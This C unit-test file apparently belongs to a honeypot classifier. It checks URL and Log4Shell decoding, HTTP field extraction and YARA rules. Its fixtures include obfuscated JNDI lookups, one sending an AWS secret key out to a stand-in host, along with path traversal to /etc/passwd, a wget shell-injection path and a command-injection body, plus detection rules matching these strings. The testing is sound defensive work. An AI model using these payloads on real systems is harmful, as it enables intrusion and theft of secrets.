@@ -1,0 +1,287 @@
+/* normalize.c - unit tests of the normalised fields rules see: the URL
+ * and Log4Shell decoders, the fields of whole payloads, their caps, and
+ * the http_* variables reaching YARA rules through classify. Run from
+ * unit.c's main through test_normalize. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "classify.h"
+#include "normalize.h"
+
+void test_normalize(int *passed, int *failed);
+
+static int *nz_passed, *nz_failed;
+
+#define CHECK(cond, ...)                                                   \
+	do {                                                               \
+		if (cond) {                                                \
+			(*nz_passed)++;                                    \
+		} else {                                                   \
+			(*nz_failed)++;                                    \
+			printf("FAIL %s:%d: %s: ", __FILE__, __LINE__, #cond); \
+			printf(__VA_ARGS__);                               \
+			printf("\n");                                      \
+		}                                                          \
+	} while (0)
+
+static char scratch[NORMALIZE_FIELD_MAX];
+
+static void test_url(void)
+{
+	static const struct {
+		const char *in;
+		size_t plus_from;    /* (size_t)-1: none */
+		const char *want;
+	} cases[] = {
+		{"/a%41%7e", -1, "/aA~"},
+		{"%2541", -1, "A"},                      /* double */
+		{"%252541", -1, "A"},                    /* triple */
+		{"%25252541", -1, "%41"},                /* a fourth pass is not made */
+		{"%u0024%u007Bjndi", -1, "${jndi"},      /* IIS %u */
+		{"%u00e9", -1, "\xc3\xa9"},              /* to UTF-8 */
+		{"/a+b?c+d%2B", 4, "/a+b?c d+"},         /* '+' in the query only; %2B stays '+' */
+		{"%252B", 0, "+"},                       /* decoded '+' is not a space */
+		{"%zz%4%", -1, "%zz%4%"},                /* invalid escapes stay */
+		{"%%35%63", -1, "\\"},                   /* Nimda: %5c, then '\' */
+		{"..%c0%af..%e0%80%afx", -1, "../../x"}, /* overlong '/' */
+		{"%c1%9c", -1, "\\"},                    /* overlong '\' */
+		{"\xc3\xa9", -1, "\xc3\xa9"},            /* real UTF-8 kept */
+	};
+	char out[NORMALIZE_FIELD_MAX];
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		size_t n = strlen(cases[i].in);
+		size_t len = normalize_url(cases[i].in, n, cases[i].plus_from, out, sizeof(out),
+		    scratch);
+		CHECK(len == strlen(cases[i].want) && memcmp(out, cases[i].want, len) == 0,
+		    "%s: got %.*s", cases[i].in, (int)len, out);
+	}
+	/* Output never outgrows the cap, whatever the input. */
+	char big[3 * NORMALIZE_FIELD_MAX];
+	for (size_t i = 0; i < sizeof(big); i += 6)
+		memcpy(big + i, "%u0800", 6);
+	size_t len = normalize_url(big, sizeof(big), 0, out, 100, scratch);
+	CHECK(len <= 100, "capped at 100, got %zu", len);
+	len = normalize_url("%00", 3, 0, out, sizeof(out), scratch);
+	CHECK(len == 1 && out[0] == '\0', "NUL decoded (the field escapes it)");
+}
+
+static void test_log4j(void)
+{
+	static const struct {
+		const char *in, *want;
+	} cases[] = {
+		{"${jndi:ldap://h/a}", "jndi:ldap://h/a"},
+		{"${JnDi:ldap://h/a}", "jndi:ldap://h/a"},
+		{"${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}", "jndi:rmi://h/a"},
+		{"${${lower:J}${upper:n}di:dns://h}", "jndi:dns://h"},
+		{"${${env:NOPE:-j}ndi${sys:x:-:}ldap://h}", "jndi:ldap://h"},
+		{"${${date:'j'}${date:'n'yyyy}di:ldap://h}", "jndi:ldap://h"},
+		{"${upper:\xc4\xb1}", "I"},              /* dotless i */
+		{"${${upper:a}}", "${A}"},                /* a result is not a lookup */
+		{"${${k8s:k5:-J}${lower:N}DI:x}", "jndi:x"},
+		{"${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}}", "jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}"},
+		{"${env:HOME}", "${env:HOME}"},          /* unknowable: as written */
+		{"${:-x}", "x"},
+		{"a}b${", "a}b${"},                      /* unbalanced: as written */
+		{"no lookups", "no lookups"},
+	};
+	char out[NORMALIZE_FIELD_MAX];
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		size_t len = normalize_log4j(cases[i].in, strlen(cases[i].in), out, sizeof(out),
+		    scratch);
+		CHECK(len == strlen(cases[i].want) && memcmp(out, cases[i].want, len) == 0,
+		    "%s: got %.*s", cases[i].in, (int)len, out);
+	}
+	/* Deeper than the cap: the outer "${" stay as written, inner ones
+	 * resolve, and nothing runs past the buffer. */
+	char deep[256] = "", want[256] = "";
+	for (int i = 0; i < 20; i++)
+		strcat(deep, "${::-");
+	strcat(deep, "j");
+	for (int i = 0; i < 20; i++)
+		strcat(deep, "}");
+	size_t len = normalize_log4j(deep, strlen(deep), out, sizeof(out), scratch);
+	for (int i = 0; i < 20 - NORMALIZE_LOOKUP_DEPTH; i++)
+		strcat(want, "${::-");
+	strcat(want, "j");
+	for (int i = 0; i < 20 - NORMALIZE_LOOKUP_DEPTH; i++)
+		strcat(want, "}");
+	CHECK(len == strlen(want) && memcmp(out, want, len) == 0, "deep: got %.*s", (int)len, out);
+	len = normalize_log4j(deep, strlen(deep), out, 7, scratch);
+	CHECK(len <= 7, "capped at 7, got %zu", len);
+}
+
+static struct normalize z;
+
+static int fill(const char *payload)
+{
+	return normalize_payload(&z, (const uint8_t *)payload, strlen(payload));
+}
+
+static void test_fields(void)
+{
+	static const struct {
+		const char *payload;
+		int nreq;
+		enum normalize_field f;
+		const char *want;
+	} cases[] = {
+		{"GET /a%2541?q=1+2 HTTP/1.1\r\nHost: h\r\n\r\n", 1, NORMALIZE_TARGET, "/aA?q=1 2"},
+		{"GET /a%2541?q=1+2 HTTP/1.1\r\n\r\n", 1, NORMALIZE_PATH, "/aA"},
+		{"GET /a/./b\\..\\c HTTP/1.0\r\n\r\n", 1, NORMALIZE_PATH, "/a/b/../c"},
+		{"GET / HTTP/1.0\r\n\r\n", 1, NORMALIZE_VERSION, "HTTP/1.0"},
+		{"GET /x\r\n", 1, NORMALIZE_VERSION, ""},                       /* HTTP/0.9 */
+		{"XFOC / HTTP/1.1\r\n\r\n", 1, NORMALIZE_METHOD, "XFOC"},
+		{"GET / HTTP/1.1\nUser-Agent: a%20b\nUser-Agent: c\n\n", 1, NORMALIZE_UA, "a b"},
+		{"GET / HTTP/1.1\r\nHost:  h \r\nX-A: %24%7Bx\r\n\r\n", 1, NORMALIZE_HEADERS,
+		    "Host: h\nX-A: ${x\n"},
+		{"GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\n", 1, NORMALIZE_AUTH,
+		    "user:pass"},
+		{"GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXM\r\n\r\n", 1, NORMALIZE_AUTH,
+		    "user:pas"},                                                /* no padding */
+		{"GET / HTTP/1.1\r\nAuthorization: Basic !!!\r\n\r\n", 1, NORMALIZE_AUTH, ""},
+		{"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		    "Content-Length: 11\r\n\r\na=b+c%3Bsh&", 1, NORMALIZE_BODY, "a=b c;sh&"},
+		{"POST / HTTP/1.1\r\nContent-Type: text/plain\r\nContent-Length: 7\r\n\r\na+b\0%41",
+		    1, NORMALIZE_BODY, "a+b"},                                  /* raw (strlen cut) */
+		{"POST / HTTP/1.1\r\n\r\n<?php x", 1, NORMALIZE_BODY, "<?php x"}, /* no length */
+		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n\r\nHEAD /3 HTTP/1.0\r\n\r\n", 3,
+		    NORMALIZE_METHOD, "GET\nGET\nHEAD"},
+		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, NORMALIZE_TARGET, "/1\n/2"},
+		{"POST /a HTTP/1.1\r\nContent-Length: 4\r\n\r\nGET GET /b HTTP/1.1\r\n\r\n", 2,
+		    NORMALIZE_TARGET, "/a\n/b"},                                /* body skipped */
+		{"GET /${${::-j}ndi:ldap://h/a} HTTP/1.1\r\n\r\n", 1, NORMALIZE_LOG4J,
+		    "jndi:ldap://h/a"},
+		{"${jndi:ldap://h/m} / HTTP/1.1\r\nUser-Agent: %24%7Bjndi:rmi://h/u%7D\r\n"
+		    "Authorization: Basic JHtqbmRpOmRuczovL2gvYn0=\r\n\r\n", 1, NORMALIZE_LOG4J,
+		    "jndi:ldap://h/m\njndi:rmi://h/u\njndi:dns://h/b"},
+		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://h\r\n\r\n", 1, NORMALIZE_LOG4J, ""},
+		{"\x16\x03\x01\x02\x00\x01", 0, NORMALIZE_METHOD, ""},        /* TLS: not HTTP */
+		{"hello world\r\n", 0, NORMALIZE_TARGET, ""},
+		{"GET\r\n\r\n", 0, NORMALIZE_METHOD, ""},
+		{"", 0, NORMALIZE_HEADERS, ""},
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		int n = fill(cases[i].payload);
+		CHECK(n == cases[i].nreq, "case %zu: %d requests", i, n);
+		CHECK(strcmp(z.field[cases[i].f], cases[i].want) == 0 &&
+		    z.len[cases[i].f] == strlen(cases[i].want),
+		    "case %zu: %s = \"%s\"", i, normalize_names[cases[i].f], z.field[cases[i].f]);
+	}
+	/* A NUL in a value is written %00: YARA sees C strings. */
+	static const char nul[] = "GET /a%2500b HTTP/1.1\r\nX: a\0b\r\n\r\n";
+	normalize_payload(&z, (const uint8_t *)nul, sizeof(nul) - 1);
+	CHECK(strcmp(z.field[NORMALIZE_TARGET], "/a%00b") == 0, "target %s", z.field[NORMALIZE_TARGET]);
+	CHECK(strcmp(z.field[NORMALIZE_HEADERS], "X: a%00b\n") == 0, "headers %s",
+	    z.field[NORMALIZE_HEADERS]);
+}
+
+static void test_caps(void)
+{
+	size_t len = 256 * 1024;
+	char *big = malloc(len + 1);
+
+	if (!big)
+		return;
+	/* One huge target and header: each field cut at its cap. */
+	memset(big, 'a', len);
+	memcpy(big, "GET /", 5);
+	memcpy(big + len / 2, " HTTP/1.1\r\nX: ", 14);
+	memcpy(big + len - 4, "\r\n\r\n", 4);
+	CHECK(normalize_payload(&z, (uint8_t *)big, len) == 1, "one request");
+	for (int f = 0; f < NORMALIZE_FIELDS; f++)
+		CHECK(z.len[f] < NORMALIZE_FIELD_MAX && strlen(z.field[f]) == z.len[f],
+		    "%s: %zu", normalize_names[f], z.len[f]);
+	CHECK(z.len[NORMALIZE_TARGET] >= NORMALIZE_FIELD_MAX - 3, "target cut at the cap");
+	/* Many requests: counted up to the cap. */
+	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
+	size_t n = len / (sizeof(req) - 1);
+	for (size_t i = 0; i < n; i++)
+		memcpy(big + i * (sizeof(req) - 1), req, sizeof(req) - 1);
+	CHECK(normalize_payload(&z, (uint8_t *)big, n * (sizeof(req) - 1)) ==
+	    NORMALIZE_REQUESTS_MAX, "requests capped: %d", z.nrequests);
+	/* Lookups nested and repeated past every cap. */
+	for (size_t i = 0; i + 2 <= len; i += 2)
+		memcpy(big + i, i % 4 ? "}}" : "${", 2);
+	memcpy(big, "GET /", 5);
+	memcpy(big + len / 2, " HTTP/1.1\r\n\r\n", 13);
+	normalize_payload(&z, (uint8_t *)big, len);
+	CHECK(z.len[NORMALIZE_LOG4J] < NORMALIZE_FIELD_MAX, "log4j %zu", z.len[NORMALIZE_LOG4J]);
+	free(big);
+}
+
+/* The http_* variables reach rules; each rule here needs its field. */
+static void test_externals(void)
+{
+	static const char rules[] =
+	    "rule v_method { condition: http_method == \"PROPFIND\" }\n"
+	    "rule v_target { condition: http_target contains \"/shell?cd /tmp;wget\" }\n"
+	    "rule v_path { condition: http_path == \"/../etc/passwd\" }\n"
+	    "rule v_version { condition: http_version == \"HTTP/1.0\" }\n"
+	    "rule v_ua { condition: http_ua icontains \"nikto\" }\n"
+	    "rule v_headers { condition: http_headers contains \"X-Forwarded-For: ${\" }\n"
+	    "rule v_auth { condition: http_auth == \"admin:admin\" }\n"
+	    "rule v_body { condition: http_body contains \"cmd=id;uname\" }\n"
+	    "rule v_log4j { condition: http_log4j startswith \"jndi:ldap://\" }\n"
+	    "rule v_two { condition: http_nrequests == 2 }\n"
+	    "rule v_raw { strings: $a = \"%2e%2e/\" condition: $a }\n";
+	static const struct {
+		const char *payload, *want;
+	} cases[] = {
+		{"PROPFIND / HTTP/1.1\r\n\r\n", "v_method"},
+		{"GET /shell?cd+/tmp%3Bwget HTTP/1.1\r\n\r\n", "v_target"},
+		{"GET /%2e%2e/etc/passwd HTTP/1.1\r\n\r\n", "v_path v_raw"},
+		{"GET /x HTTP/1.0\r\n\r\n", "v_version"},
+		{"GET / HTTP/1.1\r\nUser-Agent: Mozilla (Nikto/2.5)\r\n\r\n", "v_ua"},
+		{"GET / HTTP/1.1\r\nX-Forwarded-For: %24%7Bx%7D\r\n\r\n", "v_headers"},
+		{"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n", "v_auth"},
+		{"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		    "Content-Length: 15\r\n\r\ncmd=id%3buname", "v_body"},
+		{"GET / HTTP/1.1\r\nReferer: ${${lower:J}ndi:ldap://h/a}\r\n\r\n", "v_log4j"},
+		{"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n", "v_two"},
+		{"\x16\x03\x01 not http", ""},
+		{"", ""},
+	};
+	char path[] = "/tmp/flypaper-unit-nz-XXXXXX.yar", err[256];
+	int fd = mkstemps(path, 4);
+
+	CHECK(fd >= 0 && write(fd, rules, sizeof(rules) - 1) == (ssize_t)sizeof(rules) - 1,
+	    "rule file");
+	if (fd < 0)
+		return;
+	close(fd);
+	classify_test_set_lists_dir("/nonexistent");  /* only the rules above */
+	struct classify *c = classify_open(path, NULL, err, sizeof(err));
+	classify_test_set_lists_dir(NULL);
+	unlink(path);
+	CHECK(c != NULL, "rules compile with http_* variables: %s", err);
+	if (!c)
+		return;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct classify_result res;
+		char got[512] = "";
+		int n = classify_scan(c, (const uint8_t *)cases[i].payload,
+		    strlen(cases[i].payload), &res);
+		for (int k = 0; k < res.n; k++)
+			snprintf(got + strlen(got), sizeof(got) - strlen(got), "%s%s",
+			    k ? " " : "", res.m[k].rule);
+		CHECK(n >= 0 && strcmp(got, cases[i].want) == 0, "case %zu: got \"%s\"", i, got);
+	}
+	classify_close(c);
+}
+
+void test_normalize(int *passed, int *failed)
+{
+	nz_passed = passed;
+	nz_failed = failed;
+	test_url();
+	test_log4j();
+	test_fields();
+	test_caps();
+	test_externals();
+}
